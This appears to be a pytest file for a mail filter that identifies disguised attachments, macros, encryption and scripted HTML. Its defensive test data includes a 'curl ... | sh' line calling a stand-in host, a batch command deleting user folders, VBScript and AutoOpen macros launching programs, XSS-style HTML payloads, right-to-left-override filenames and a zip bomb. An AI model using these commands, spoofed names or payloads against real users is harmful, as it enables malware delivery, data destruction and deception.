"""What an attachment really is, and what its name hides: real files built in tests/samples.py."""

from __future__ import annotations

import random
import threading
import time
import unicodedata
from pathlib import Path

import pytest

from milter import filetypes
from milter.archives import inspect_archive, is_archive
from milter.filetypes import (
    KINDS,
    FileType,
    has_vba_macros,
    html_has_script,
    identify,
    is_encrypted_document,
    name_problems,
)
from milter.message import Message
from tests import samples
from tests.conftest import SHARED
from tests.mail import build

# --- identify: content first -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (samples.pe_exe(), "PE32 executable (GUI) Intel 80386"),
        (samples.pe_exe(gui=False), "PE32 executable (console)"),
        (samples.pe_exe(dll=True), "(DLL)"),
        (samples.elf_exe(), "ELF 64-bit LSB executable"),
        (samples.macho_exe(), "Mach-O 64-bit"),
        (samples.java_class(), "compiled Java class"),
        (samples.lnk_shortcut(), "MS Windows shortcut"),
    ],
    ids=["pe-gui", "pe-console", "pe-dll", "elf", "macho", "java-class", "lnk"],
)
def test_programs_are_executables_whatever_their_name(data: bytes, words: str) -> None:
    filetype = identify(data, "timetable.txt")
    assert filetype.kind == "executable"
    assert words in filetype.description


def test_pe_mime_comes_from_content() -> None:
    assert identify(samples.pe_exe(), "notes.txt").mime in (
        "application/vnd.microsoft.portable-executable",
        "application/x-dosexec",
    )


@pytest.mark.parametrize("builder", [samples.jar, samples.apk, samples.appx], ids=["jar", "apk", "appx"])
def test_zip_packaged_programs_are_executables(builder: object) -> None:
    assert callable(builder)
    assert identify(builder(), "package.zip").kind == "executable"


def test_windows_installer_is_an_executable_by_its_ole_clsid() -> None:
    # libmagic names this only "Composite Document File"; the root CLSID says MSI.
    assert identify(samples.msi_like(), "update.dat").kind == "executable"


@pytest.mark.parametrize(
    "extension",
    sorted(filetypes.SCRIPT_EXTENSIONS - {"py", "pl", "sh", "bash", "csh", "ksh", "command", "pyc"}),
)
def test_scripts_are_known_by_extension_when_content_is_text(extension: str) -> None:
    text = b'Set shell = CreateObject("WScript.Shell")\nshell.Run "calc.exe"\n'
    assert identify(text, f"invoice.{extension}").kind == "script"
    assert identify(text, "invoice.txt").kind == "text"  # the same text under a harmless name


def test_shell_script_is_a_script_by_content() -> None:
    filetype = identify(b"#!/bin/sh\ncurl http://x.example/a | sh\n", "notes.txt")
    assert filetype.kind == "script"


def test_batch_file_is_a_script_by_content() -> None:
    assert identify(b"@echo off\r\ndel /q C:\\Users\\*\r\n", "readme").kind == "script"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (samples.iso_image([("setup.exe", samples.pe_exe())]), "photos.dat"),
        (samples.vhd_image(), "disk.dat"),
        (samples.vhdx_image(), "disk.vhdx"),  # libmagic 5.44 does not know VHDX: the name tells
        (bytes(8192), "macos.dmg"),
        (bytes(8192), "backup.img"),
    ],
    ids=["iso", "vhd", "vhdx", "dmg", "img"],
)
def test_disk_images(data: bytes, name: str) -> None:
    assert identify(data, name).kind == "disk_image"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (samples.nested_zip(2), "x.zip"),
        (samples.seven_zip([("a.txt", b"hello")]), "x.7z"),
        (samples.rar4([("a.txt", b"hello")]), "x.rar"),
        (samples.tar_gz([("a.txt", b"hello")]), "x.tar.gz"),
        (samples.tar_gz([("a.txt", b"hello")], "bz2"), "x.tar.bz2"),
        (samples.tar_gz([("a.txt", b"hello")], "xz"), "x.tar.xz"),
    ],
    ids=["zip", "7z", "rar", "tar.gz", "tar.bz2", "tar.xz"],
)
def test_archives(data: bytes, name: str) -> None:
    assert identify(data, name).kind == "archive"


def test_office_documents() -> None:
    assert identify(samples.docx(), "minutes.docx").kind == "office"
    assert identify(samples.doc_plain(), "minutes.doc").kind == "office"
    assert identify(samples.odt(), "minutes.odt").kind == "office"


def test_office_documents_with_macros() -> None:
    assert identify(samples.docx(macros=True), "minutes.docm").kind == "office_macro"
    assert identify(samples.doc_with_macros(), "minutes.doc").kind == "office_macro"
    # The macro is in the content: renaming the file does not hide it.
    assert identify(samples.docx(macros=True), "minutes.docx").kind == "office_macro"


def test_pdf_html_image_text_other() -> None:
    assert identify(samples.pdf(), "letter.pdf").kind == "pdf"
    assert identify(samples.HTML_PLAIN, "trip.html").kind == "html"
    assert identify(b'<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>', "logo.svg").kind == "html"
    assert identify(samples.png(), "photo.png").kind == "image"
    assert identify(b"Dear parents,\nthe coach leaves at 8.\n", "letter.txt").kind == "text"
    assert identify(random.Random(1).randbytes(4096), "blob.dat").kind == "other"
    assert identify(b"", "empty.txt").kind == "other"


def test_identify_survives_junk_under_any_name() -> None:
    rng = random.Random(5)
    names = ["a.zip", "a.docx", "a.doc", "a.pdf", "a.exe", "a.iso", "a.html", "", "a.7z"]
    prefixes = [
        b"",
        b"PK\x03\x04",
        filetypes.OLE_MAGIC,
        b"%PDF-1.7\n",
        b"MZ",
        b"<html>",
        b"7z\xbc\xaf\x27\x1c",
    ]
    for prefix in prefixes:
        for name in names:
            data = prefix + rng.randbytes(rng.randrange(0, 3000))
            filetype = identify(data, name)
            assert filetype.kind in KINDS
            name_problems(name, filetype)
            is_encrypted_document(data, filetype)
            has_vba_macros(data)
            html_has_script(data)


def test_zip_with_thousands_of_entries_is_judged_without_reading_them_all() -> None:
    data = samples.zip_of([(f"{i}.txt", b"") for i in range(12_000)], compression=0)
    start = time.perf_counter()
    assert identify(data, "minutes.docx").kind == "archive"
    assert not has_vba_macros(data)
    assert time.perf_counter() - start < 0.05


def test_identify_is_safe_from_many_threads() -> None:
    cases = [
        (samples.pe_exe(), "executable"),
        (samples.pdf(), "pdf"),
        (samples.HTML_PLAIN, "html"),
        (samples.png(), "image"),
        (b"plain words\n", "text"),
    ]
    failures: list[str] = []

    def work(offset: int) -> None:
        for i in range(60):
            data, kind = cases[(i + offset) % len(cases)]
            got = identify(data, "attachment").kind
            if got != kind:
                failures.append(f"{kind} seen as {got}")

    threads = [threading.Thread(target=work, args=(n,)) for n in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert failures == []


# --- name problems -----------------------------------------------------------------------------


def _kinds(name: str, data: bytes = b"Dear parents\n") -> list[str]:
    return [p.kind for p in name_problems(name, identify(data, name))]


def _problem(name: str, kind: str, data: bytes = b"Dear parents\n") -> str:
    found = [p.detail for p in name_problems(name, identify(data, name)) if p.kind == kind]
    assert found, f"no {kind} for {name!r}"
    return found[0]


def test_double_extension() -> None:
    assert _problem("report.pdf.exe", "double_extension", samples.pe_exe()) == "report.pdf.exe"
    assert "double_extension" in _kinds("photo.jpg.scr", samples.pe_exe())
    assert "double_extension" in _kinds("timetable.docx.lnk", samples.lnk_shortcut())


def test_double_extension_hidden_behind_spaces() -> None:
    assert "double_extension" in _kinds("report.pdf                              .exe", samples.pe_exe())


@pytest.mark.parametrize("name", ["archive.tar.gz", "setup-1.2.exe", "minutes.2024.pdf", "v1.0.docx"])
def test_ordinary_dotted_names_are_no_double_extension(name: str) -> None:
    assert "double_extension" not in _kinds(name)


def test_right_to_left_override() -> None:
    detail = _problem("invoice\u202efdp.exe", "bidi_override", samples.pe_exe())
    assert "<U+202E>" in detail
    assert "shows as invoiceexe.pdf" in detail


def test_other_bidi_controls() -> None:
    assert "bidi_override" in _kinds("report\u2067fdp.exe\u2069.txt")


def test_name_decoded_from_rfc2231_still_shows_the_override() -> None:
    raw = build(attachments=[("invoice\u202efdp.exe", samples.pe_exe(), "application/octet-stream")])
    assert b"\xe2\x80\xae" not in raw  # on the wire the name is encoded
    attachment = Message(raw).attachments[0]
    assert attachment.filename == "invoice\u202efdp.exe"
    kinds = [p.kind for p in name_problems(attachment.filename, identify(attachment.payload()))]
    assert "bidi_override" in kinds
    assert "dangerous_extension" in kinds


@pytest.mark.parametrize("invisible", ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u3164"])
def test_invisible_characters(invisible: str) -> None:
    detail = _problem(f"repo{invisible}rt.pdf", "invisible_characters")
    assert f"<U+{ord(invisible):04X}>" in detail


def test_extension_mismatch_program_named_as_document() -> None:
    assert _problem("invoice.pdf", "extension_mismatch", samples.pe_exe()) == (
        "named .pdf but is a Windows executable"
    )
    assert (
        _problem("notes.txt", "extension_mismatch", samples.elf_exe())
        == "named .txt but is a Linux executable"
    )


def test_extension_mismatch_other_disguises() -> None:
    iso = samples.iso_image([("a.exe", samples.pe_exe())])
    assert _problem("scan.pdf", "extension_mismatch", iso) == "named .pdf but is a disk image"
    assert _problem("scan.pdf", "extension_mismatch", samples.nested_zip(1)) == "named .pdf but is an archive"
    assert _problem("scan.pdf", "extension_mismatch", samples.HTML_SCRIPT) == "named .pdf but is a web page"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("minutes.docx", samples.docx()),
        ("letter.pdf", samples.pdf()),
        ("setup.exe", samples.pe_exe()),
        ("library.dll", samples.pe_exe(dll=True)),
        ("report.xls", b"<html><body><table><tr><td>1</td></tr></table></body></html>"),  # MIS export
        ("photos.zip", samples.nested_zip(1)),
        ("photo.png", samples.png()),
    ],
)
def test_no_mismatch_when_name_and_content_agree(name: str, data: bytes) -> None:
    assert "extension_mismatch" not in _kinds(name, data)


@pytest.mark.parametrize(
    "name", ["a.exe", "a.scr", "a.js", "a.vbs", "a.ps1", "a.hta", "a.iso", "a.lnk", "a.EXE", "a.exe."]
)
def test_dangerous_extension(name: str) -> None:
    assert "dangerous_extension" in _kinds(name)


@pytest.mark.parametrize("name", ["a.pdf", "a.docx", "a.zip", "a.jpg", "a.txt", "exe", "a.exe.txt"])
def test_harmless_extension(name: str) -> None:
    assert "dangerous_extension" not in _kinds(name)


@pytest.mark.parametrize(
    "name",
    [
        "p\u0430yp\u0430l-invoice.pdf",  # Cyrillic а in a Latin word
        "invoice.\u0440df",  # Cyrillic р in the extension
        "invoice.\uff45\uff58\uff45",  # fullwidth exe
        "invoice\u2024pdf",  # ONE DOT LEADER instead of a dot
        "inv\U0001d5c8ice.pdf",  # mathematical sans-serif o
    ],
)
def test_lookalike_characters(name: str) -> None:
    assert "lookalike_characters" in _kinds(name)


@pytest.mark.parametrize(
    "name", ["Отчёт за март.pdf", "Σχέδιο μαθήματος.docx", "ＩＮＶＯＩＣＥ.pdf", "élève.pdf"]
)
def test_names_in_other_languages_are_not_lookalikes(name: str) -> None:
    assert "lookalike_characters" not in _kinds(name)


def test_very_long_name() -> None:
    name = "Year 9 parents evening appointment schedule " * 5 + ".exe"
    assert "very_long_name" in _kinds(name)
    assert "very_long_name" not in _kinds("Year 9 parents evening appointment schedule.pdf")


def test_path_in_name_is_ignored() -> None:
    assert _kinds("C:\\fakepath\\minutes.pdf") == []


def test_details_are_safe_to_show() -> None:
    name = "a\u202e\u200b\x07\u2066" + "x" * 200 + "\u202efdp.exe"
    problems = name_problems(name, identify(samples.pe_exe(), name))
    assert {p.kind for p in problems} >= {"bidi_override", "invisible_characters", "very_long_name"}
    for problem in problems:
        assert all(unicodedata.category(ch) not in ("Cc", "Cf") for ch in problem.detail), problem


# --- macros, encryption, script -----------------------------------------------------------------


def test_vba_macros_found_in_docm_and_doc() -> None:
    assert has_vba_macros(samples.docx(macros=True))
    assert has_vba_macros(samples.doc_with_macros())
    assert has_vba_macros(samples.vba_project_bin())


def test_the_built_vba_project_is_real() -> None:
    # olevba decompresses and reads the module's source: the test file is no mere lookalike.
    parser = filetypes._olevba().VBA_Parser("minutes.docm", data=samples.docx(macros=True))
    code = "".join(str(c) for _, _, _, c in parser.extract_macros())
    parser.close()
    assert "Sub AutoOpen()" in code


@pytest.mark.parametrize(
    "data",
    [
        samples.docx(),
        samples.doc_plain(),
        samples.pdf(),
        b'Sub AutoOpen()\r\n  Shell "calc"\r\nEnd Sub\r\n',  # VBA as plain text is not a document
        # Text naming the Word 2003 XML namespace: olevba parses it, fails, then calls it VBA source.
        b"Save as http://schemas.microsoft.com/office/word/2003/wordml then run Sub AutoOpen()",
        filetypes.OLE_MAGIC + bytes(600),
        b"PK\x03\x04" + bytes(100),
        b"",
    ],
    ids=["docx", "doc", "pdf", "vba-text", "wordml-text", "broken-ole", "broken-zip", "empty"],
)
def test_no_vba_macros(data: bytes) -> None:
    assert not has_vba_macros(data)


def test_macro_check_does_not_inflate_a_bomb_dressed_as_docm() -> None:
    # A 100 MB member that starts like an OLE file: it is not read whole, let alone parsed.
    bomb = samples.zip_bomb(100, "word/vbaProject.bin", prefix=filetypes.OLE_MAGIC)
    start = time.perf_counter()
    assert not has_vba_macros(bomb)
    assert time.perf_counter() - start < 0.5


@pytest.mark.parametrize(
    ("data", "encrypted"),
    [
        (samples.pdf("s3cret"), True),
        (samples.pdf(), False),
        (samples.docx_encrypted(), True),
        (samples.docx(), False),
        (samples.doc_encrypted_flag(), True),
        (samples.doc_plain(), False),
        (samples.odt(encrypted=True), True),
        (samples.odt(), False),
        (samples.pe_exe(), False),
    ],
    ids=["pdf-pw", "pdf", "docx-pw", "docx", "doc-pw", "doc", "odt-pw", "odt", "exe"],
)
def test_encrypted_documents(data: bytes, encrypted: bool) -> None:
    assert is_encrypted_document(data, identify(data, "")) is encrypted


def test_encrypted_pdf_too_broken_for_pypdf_is_still_seen() -> None:
    broken = b"%PDF-1.4\n1 0 obj garbage\ntrailer\n<< /Root 1 0 R /Encrypt 5 0 R >>\n%%EOF\n"
    assert is_encrypted_document(broken, identify(broken, "a.pdf"))


@pytest.mark.parametrize(
    "data",
    [
        samples.HTML_SCRIPT,
        samples.HTML_HANDLER,
        samples.HTML_JS_URL,
        b"<html><body><a href='java\tscript:alert(1)'>x</a></body></html>",
        b"<html><body><form action='vbscript:msgbox(1)'></form></body></html>",
        b'<html><head><meta http-equiv="refresh" content="0;url=javascript:alert(1)"></head></html>',
        b'<html><body><iframe srcdoc="<script>alert(1)</script>"></iframe></body></html>',
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
        b"<html><body><a href='data:text/html;base64,PHNjcmlwdD4='>open</a></body></html>",
        b"\xff\xfe" + "<html><script>x()</script></html>".encode("utf-16-le"),
    ],
    ids=[
        "script",
        "handler",
        "js-url",
        "js-url-tab",
        "vbscript",
        "meta",
        "srcdoc",
        "svg",
        "data-url",
        "utf16",
    ],
)
def test_html_with_script(data: bytes) -> None:
    assert html_has_script(data)


@pytest.mark.parametrize(
    "data",
    [
        samples.HTML_PLAIN,
        b"<html><body><p>Read 'javascript: the good parts' and the onload chapter.</p></body></html>",
        b"<html><body><a href='https://school.example/onboarding'>one</a></body></html>",
        b"",
        b"\x00\x01\x02 not html",
    ],
    ids=["plain", "words-only", "link", "empty", "binary"],
)
def test_html_without_script(data: bytes) -> None:
    assert not html_has_script(data)


# --- the shared corpora ---------------------------------------------------------------------------

CORPORA = SHARED / "corpora"


def test_every_corpus_attachment_identifies() -> None:
    files = sorted(p for p in CORPORA.rglob("*") if p.is_file() and p.name not in ("LICENSE", "README.md"))
    assert len(files) >= 174
    seen = 0
    for path in files:
        for attachment in Message(Path(path).read_bytes()).attachments:
            data = attachment.payload()
            filetype = identify(data, attachment.filename)
            assert isinstance(filetype, FileType)
            assert filetype.kind in KINDS
            for problem in name_problems(attachment.filename, filetype):
                assert problem.detail
            is_encrypted_document(data, filetype)
            has_vba_macros(data)
            html_has_script(data)
            if is_archive(data, attachment.filename):
                inspect_archive(data, attachment.filename)
            seen += 1
    assert seen > 50  # the corpora carry dozens of attachments (64 when this was written)
